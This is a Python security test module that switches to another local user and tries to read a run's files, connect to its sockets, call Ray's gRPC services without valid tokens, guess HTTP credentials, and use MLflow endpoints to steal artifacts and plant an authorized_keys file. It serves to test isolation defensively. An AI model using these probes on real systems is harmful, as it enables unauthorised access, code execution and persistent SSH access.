"""Another user of the machine tries to reach all that a run has. Print the findings as JSON.

    python -m tests.intruder USER < targets.json

Start it as root, because another user may not even read this file. Negative control: as the run's
own user it must reach something.
"""

import http.client
import json
import os
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path
from types import MappingProxyType
from typing import Any

import grpc

Finding = tuple[str, str]
"""A target that was reached, and how."""
LIMIT_S = 5.0
SECRET = "a secret of the run's user"
WORDS = [{}, {"Authorization": "Basic cmVmcmFpbjpndWVzc2Vk"}, {"Authorization": "Bearer x"}]
"""Headers without a password, and with wrong ones."""
CALLS = (
    # This call needs no cluster ID.
    "NodeInfoGcsService/GetClusterId",
    "NodeInfoGcsService/GetAllNodeInfo",
    "InternalKVGcsService/InternalKVKeys",
    "InternalKVGcsService/InternalKVPut",
    "JobInfoGcsService/AddJob",
    "ActorInfoGcsService/GetAllActorInfo",
    "NodeManagerService/GetNodeStats",
    "NodeManagerService/RequestWorkerLease",
    "ObjectManagerService/Pull",
    "ObjectManagerService/FreeObjects",
    "CoreWorkerService/PushTask",
    "CoreWorkerService/GetCoreWorkerStats",
    "CoreWorkerService/Exit",
)
"""Calls of Ray's servers that read, join, run code or end something."""
CLOSED = (
    grpc.StatusCode.UNAUTHENTICATED,
    grpc.StatusCode.UNIMPLEMENTED,
    # The server speaks another protocol.
    grpc.StatusCode.UNAVAILABLE,
    grpc.StatusCode.DEADLINE_EXCEEDED,
)
PAGES = (
    "/",
    "/metrics",
    "/api/admin/settings",
    "/api/flows/filter",
    "/ajax-api/2.0/mlflow/experiments/search",
)


def attack(targets: dict[str, Any]) -> Iterator[Finding]:
    for path in map(Path, targets.get("files", ())):
        yield from open_file(path)
    for directory in map(Path, targets.get("directories", ())):
        yield from use_directory(directory)
    for name in targets.get("sockets", ()):
        yield from ask_socket(name)
    # A server that speaks neither protocol lets each request wait for its timeout.
    with ThreadPoolExecutor(8) as pool:
        try_port = partial(use_port, token=targets.get("token"))
        for found in pool.map(try_port, targets.get("ports", ())):
            yield from found
    if mlflow := targets.get("mlflow"):
        for words in [targets["words"]] if "words" in targets else WORDS:
            yield from rob_mlflow(mlflow, Path(targets["victim"]), words)


def open_file(path: Path) -> Iterator[Finding]:
    for how, flags in (("read", os.O_RDONLY), ("written", os.O_WRONLY | os.O_APPEND)):
        try:
            os.close(os.open(path, flags | os.O_NONBLOCK))
        except OSError:
            continue
        yield str(path), how


def use_directory(directory: Path) -> Iterator[Finding]:
    try:
        os.listdir(directory)
        yield str(directory), "listed"
    except OSError:
        pass
    mine = directory / f"intruder-{os.getpid()}"
    try:
        mine.mkdir()
        mine.rmdir()
        yield str(directory), "written to"
    except OSError:
        pass


def ask_socket(name: str) -> Iterator[Finding]:
    """Connect to a path, or to a name in the abstract namespace (with @ first, as `ss` shows)."""
    with socket.socket(socket.AF_UNIX) as asking:
        asking.settimeout(LIMIT_S)
        try:
            asking.connect(name.replace("@", "\0", 1) if name.startswith("@") else name)
            if not name.startswith("@"):
                yield name, "connected to"
                return
            # `refrain sql` begins with this line.
            asking.sendall(b"5.0\n")
            if asking.recv(1):
                yield name, "answered"
        except OSError:
            return


def use_port(port: int, token: str | None) -> list[Finding]:
    return [*call_port(port, token), *read_pages(port)]


def call_port(port: int, token: str | None) -> Iterator[Finding]:
    """Call Ray's servers with this token. Without one, call them with none and with wrong ones."""
    words = [f"Bearer {token}"] if token else [None, "Bearer x", "Bearer " + "0" * 64]
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        for word in words:
            for name in CALLS if not token else CALLS[:1]:
                call = channel.unary_unary(f"/ray.rpc.{name}")
                metadata = [("authorization", word)] if word else []
                try:
                    call(b"", timeout=LIMIT_S, metadata=metadata)
                    yield f"port {port}", name
                except grpc.RpcError as error:
                    code = error.code()
                    if code not in CLOSED:
                        yield f"port {port}", f"{name}: {code}"
                    if code in CLOSED[2:]:
                        return


def read_pages(port: int) -> Iterator[Finding]:
    for words in WORDS:
        for page in PAGES:
            status, text = ask(f"http://127.0.0.1:{port}{page}", None, words)
            if status == 0:
                return
            # Prefect serves its static pages to all. Its data need the password.
            if status == 200 and "<title>Prefect" not in text:
                yield f"port {port}", f"{page} answered"


def rob_mlflow(url: str, victim: Path, words: dict[str, str]) -> Iterator[Finding]:
    """Read artifacts of the user's runs, and make the server write into a directory of the user."""
    api = f"{url}/api/2.0/mlflow"
    _, text = ask(f"{api}/runs/search", {"experiment_ids": ["0", "1", "2"]}, words)
    for run in parsed(text).get("runs", ()):
        found = f"path=key&run_uuid={run['info']['run_id']}"
        if SECRET in ask(f"{url}/get-artifact?{found}", None, words)[1]:
            yield url, "read the key"
    made = {"name": f"of {os.getpid()} {words}", "artifact_location": victim.as_uri()}
    _, text = ask(f"{api}/experiments/create", made, words)
    experiment = parsed(text).get("experiment_id", "0")
    _, text = ask(f"{api}/runs/create", {"experiment_id": experiment}, words)
    run_id = parsed(text).get("run", {}).get("info", {}).get("run_id", "0")
    at = f"run_uuid={run_id}&path=authorized_keys"
    for uri, method in (
        (f"{url}/ajax-api/2.0/mlflow/upload-artifact?{at}", "POST"),
        (f"{url}/api/2.0/mlflow-artifacts/artifacts/authorized_keys", "PUT"),
    ):
        if ask(uri, b"mine", words, method)[0] == 200:
            yield url, "wrote authorized_keys"


def ask(
    url: str,
    body: Any = None,
    headers: Mapping[str, str] = MappingProxyType({}),
    method: str | None = None,
) -> tuple[int, str]:
    """Return the HTTP status and text, or status 0 without an HTTP answer."""
    content = body if isinstance(body, bytes) or body is None else json.dumps(body).encode()
    known = {"Content-Type": "application/json", **headers}
    try:
        request = urllib.request.Request(url, content, known, method=method)
        with urllib.request.urlopen(request, timeout=LIMIT_S) as answer:
            return answer.status, answer.read(2**16).decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read(2**16).decode(errors="replace")
    except (OSError, http.client.HTTPException) as error:
        return 0, str(error)


def parsed(text: str) -> dict[str, Any]:
    try:
        return json.loads(text)
    except ValueError:
        return {}


def main() -> None:
    targets, user = json.load(sys.stdin), int(sys.argv[1])
    # Import lazy modules now: the other user could not read them.
    list(attack({"ports": [1], "mlflow": "http://127.0.0.1:1", "victim": "/"}))
    if user != os.getuid():
        os.setgroups([])
        os.setgid(user)
        os.setuid(user)
    os.chdir("/")
    print(json.dumps(sorted(set(attack(targets)))))


if __name__ == "__main__":
    main()
